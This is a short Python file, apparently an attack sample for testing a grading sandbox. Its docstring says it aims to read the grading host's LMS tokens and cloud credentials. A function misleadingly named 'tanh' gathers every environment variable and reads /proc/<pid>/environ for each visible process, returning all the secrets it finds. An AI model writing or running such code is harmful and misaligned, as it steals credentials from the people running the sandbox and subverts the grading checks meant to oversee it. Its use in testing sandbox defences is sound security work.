"""Attack: read the grading host's environment (LMS tokens, cloud credentials) from inside the sandbox."""

import os


def tanh(_):
    seen = [f"{key}={value}" for key, value in os.environ.items()]
    try:
        entries = os.listdir("/proc")
    except OSError:  # hidden: try the pids that exist everywhere
        entries = ["1", "self", str(os.getppid())]
    for entry in entries:
        if entry.isdigit() or entry == "self":
            try:
                with open(f"/proc/{entry}/environ", "rb") as file:
                    seen += file.read().decode(errors="replace").split("\0")
            except OSError:
                pass
    return seen
